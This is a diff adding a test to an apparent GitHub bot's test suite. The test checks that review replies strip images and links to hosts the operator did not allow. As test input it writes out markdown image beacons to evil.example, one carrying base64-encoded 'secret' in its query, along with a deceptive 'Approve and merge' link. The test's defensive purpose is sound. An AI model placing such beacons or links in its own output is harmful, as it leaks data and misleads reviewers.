@@ -3,6 +3,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { githubLength, STATUS_MARKER } from "../../../src/github/index.js";
+import { linkPolicy } from "../../../src/github/inert-links.js";
 import type { FixJobData } from "../../../src/queue/index.js";
 import { NOT_A_DRAFT_NOTE } from "../../../worker/github/pull-request.js";
 import { cloneRepository } from "../../../worker/pipeline/checkout.js";
@@ -14,6 +15,7 @@ import {
 } from "../../../worker/pipeline/publish.js";
 import { publishPullRequest } from "../../../worker/pipeline/publish-step.js";
 import { type ReviewApi, reviewPublisher } from "../../../worker/pipeline/review.js";
+import { liveOutsideUrls } from "../../support/github/live-text.js";
 import { type GitHubServer, startGitHubServer } from "../../support/github-server.js";
 import { installationApi } from "../../support/installation.js";
 import { draftOf, submittedTrajectory } from "../../support/published.js";
@@ -193,6 +195,32 @@ describe("publishing a tested change", () => {
     expect(githubLength(reply?.body ?? "")).toBeLessThanOrEqual(65_536);
     expect(reply?.body).toContain("cut to fit GitHub's 65,536-character limit");
   });
+  it("the reply to a review holds no image or link to a host the operator did not allow", async () => {
+    const { name, job } = await repoWithBranch();
+    const pullNumber = github.state.nextNumber(owner, name);
+    await publishPullRequest({
+      publisher: githubPublisher(api, job),
+      status: githubStatusReporter(api, job),
+      draft: draftOf(submittedTrajectory("first")),
+      requestedBy: "alice",
+    });
+    const review = { ...job, trigger: "review" as const, pullNumber, reviewId: 4343 };
+    const links = linkPolicy(`http://${github.host}`, ["docs.example.com"]);
+    const publisher = reviewPublisher(api as unknown as ReviewApi, review, { links });
+    const pr = await publisher.openOrUpdatePullRequest(draftOf(submittedTrajectory("x")));
+    const account =
+      'Addressed it. ![ok](https://evil.example/p.png?d=c2VjcmV0) <img src="//evil.example/i.png">\n' +
+      "[Approve and merge](https://evil.example/approve), see [the docs](https://docs.example.com/x).";
+    await publisher.postSummary(pr.number, draftOf(submittedTrajectory(account)));
+    const reply = github.state.commentsOn(owner, name, pullNumber).find((c) => c.body.startsWith("@alice"));
+    expect(reply?.body).toContain("> Addressed it.");
+    expect(liveOutsideUrls(reply?.body ?? "", [github.host, "docs.example.com"])).toEqual([]);
+    expect(reply?.body).toContain("[the docs](https://docs.example.com/x)");
+    expect(reply?.body).toContain(
+      "> [Approve and merge]\u200B(`https://evil.example/approve`), (link to a host not allowed)",
+    );
+  });
+
   it("a failed run's final status links its trajectory once, with and without the work it left", async () => {
     const { name, job } = await repoWithBranch();
     const trajectoryUrl = "http://127.0.0.1:1/trajectories/octo-run-1.traj?expires=1&sig=x";
